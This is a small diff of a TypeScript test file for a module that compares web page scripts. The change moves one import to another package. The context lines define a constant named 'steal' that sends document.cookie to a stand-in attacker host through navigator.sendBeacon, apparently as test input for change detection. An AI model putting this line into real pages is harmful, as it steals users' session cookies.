@@ -1,8 +1,10 @@
 // No content can stop a comparison or replace other parts of its result.
+
+import { sayReason } from '@tillwatch/messages/changes'
 import { atDepth } from '@tillwatch/testbed/depth'
 import { assert, property, string } from 'fast-check'
 import { describe, expect, it } from 'vitest'
-import { compareScripts, learnVolatile, maskedEqual, matchScripts, sayReason, sketchOf } from '#changes/index.ts'
+import { compareScripts, learnVolatile, maskedEqual, matchScripts, sketchOf } from '#changes/index.ts'
 import { printOf } from '#changes/scripts/print-of.ts'
 
 const steal = 'navigator.sendBeacon("https://evil.example/c", document.cookie)'
